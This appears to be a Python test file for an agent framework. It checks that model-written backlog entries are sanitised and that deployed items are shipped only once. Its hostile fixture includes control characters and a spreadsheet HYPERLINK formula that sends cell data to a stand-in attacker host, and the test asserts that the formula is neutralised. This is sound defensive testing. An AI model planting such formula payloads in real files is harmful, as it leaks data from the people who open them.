"""What a run writes into workspace data from model text keeps the data readable, and a
deployed backlog item is shipped once and never planned again. Through the real openai
client against the mock server."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from rel_support import action_rows, backlog_statuses, iterate, nexus_for

from nexus_agents.api import Nexus
from nexus_agents.data.rows import backlog_rows
from nexus_agents.data.workspace import Workspace
from nexus_agents.runs.engine import RunResult
from nexus_agents.testing.mock_server import MockLLMServer
from nexus_agents.testing.playbook_author import PlaybookAuthor, facts_of

HOSTILE_ACTIONS = [
    {
        "action": "Add a partial-failure alert\r\nsecond line\rthird\x00 line",
        "owner": "@ops",
        "deadline": "-1 day",
    },
    {
        "action": '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
        "owner": "+sre",
        "deadline": "\tnext sprint",
    },
]


class HostilePostMortem:
    """PlaybookAuthor whose post-mortem proposes prevention actions full of CR LF,
    control characters and spreadsheet formulas."""

    def __init__(self) -> None:
        self.author = PlaybookAuthor()

    def __call__(self, request: dict[str, Any]) -> Any:
        reply = self.author(request)
        if not reply or "content" not in reply:
            return reply
        body = json.loads(reply["content"])
        if "prevention_actions" in body:
            body["prevention_actions"] = HOSTILE_ACTIONS
        return {"content": json.dumps(body)}


async def settle(nx: Nexus, result: RunResult) -> RunResult:
    while result.status == "waiting_approval" and result.pending is not None:
        options = result.pending.options
        decision = "approve" if "approve" in options else result.pending.on_timeout
        result = await nx.aresume(result.run_id, decision)
    return result


async def test_model_text_written_to_the_backlog_keeps_it_readable(workspace: Path) -> None:
    backlog = workspace / "data" / "backlog.csv"
    assert b"\r" not in backlog.read_bytes()  # an LF file
    alert = {"id": "ALERT-9", "service": "api", "service_down": True}
    with MockLLMServer(responder=HostilePostMortem()) as server:
        nx = nexus_for(workspace, server)
        result = await settle(
            nx, await nx.arun("incident_response", {"alert": alert}, period="2026-11-26")
        )
        assert result.status == "succeeded", result.error
        assert "prevention_backlog" in {r["step_id"] for r in action_rows(workspace)}
        # the next loop's planning still reads the backlog
        plan = await nx.aask("sprint_prioritizer", period="2026-W48")
    raw = backlog.read_bytes()
    assert b"\r" not in raw and b"\x00" not in raw  # line ends kept, no control characters
    rows = backlog_rows(Workspace(workspace))
    added = [r for r in rows if r.source and r.source.endswith(":prevention_backlog")]
    assert [r.title for r in added] == [
        "Add a partial-failure alert second line third line",
        '\'=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    ]
    assert all(r.status == "new" for r in added)
    assert b"\t" not in raw
    assert plan.artifact.facts is not None


async def test_a_deployed_item_is_shipped_and_never_selected_again(workspace: Path) -> None:
    with MockLLMServer(responder=PlaybookAuthor()) as server:
        nx = nexus_for(workspace, server)
        first = await iterate(nx)
        second = await iterate(nx)
        second_plan = [facts_of(r.body) for r in server.requests]
    assert first.status == "succeeded" and second.status == "succeeded", second.error
    deploys = [r for r in action_rows(workspace) if r["kind"] == "deploy"]
    shipped = [r["payload"]["artifact"]["facts"]["item_id"] for r in deploys]
    assert len(shipped) == 2 and shipped[0] != shipped[1]  # never the same item twice
    assert all(
        r["result"]["data"] == {"item_id": i, "marked_shipped": True}
        for r, i in zip(deploys, shipped, strict=True)
    )
    statuses = backlog_statuses(workspace)
    assert statuses[shipped[0]] == statuses[shipped[1]] == "shipped"
    # the second plan did not even see the first item as a candidate
    plan_facts = [f for f in second_plan if "selected_item_ids" in f][-1]
    assert shipped[0] not in json.dumps(plan_facts.get("candidates"))


async def test_a_repeated_deploy_marks_the_item_once(workspace: Path) -> None:
    from nexus_agents.actions import ActionRequest, WorkspaceIntegration

    backlog = workspace / "data" / "backlog.csv"
    before = backlog.read_bytes()
    integration = WorkspaceIntegration(workspace)
    artifact = {"kind": "deploy_decision", "facts": {"item_id": "BL-003"}}
    request = ActionRequest(
        kind="deploy",
        idempotency_key="r1:deploy",
        run_id="r1",
        step_id="deploy",
        payload={"from": "deploy_decision", "artifact": artifact},
    )
    first = await integration.deploy(request)
    after = backlog.read_bytes()
    again = await WorkspaceIntegration(workspace).deploy(request)  # a new process, same key
    assert first == again and first.data == {"item_id": "BL-003", "marked_shipped": True}
    assert backlog.read_bytes() == after
    changed = [
        (old, new)
        for old, new in zip(before.splitlines(), after.splitlines(), strict=True)
        if old != new
    ]
    assert changed == [
        (
            b"BL-003,SAML SSO with Okta,1500,0.25,1.0,8,open,sales",
            b"BL-003,SAML SSO with Okta,1500,0.25,1.0,8,shipped,sales",
        )
    ]
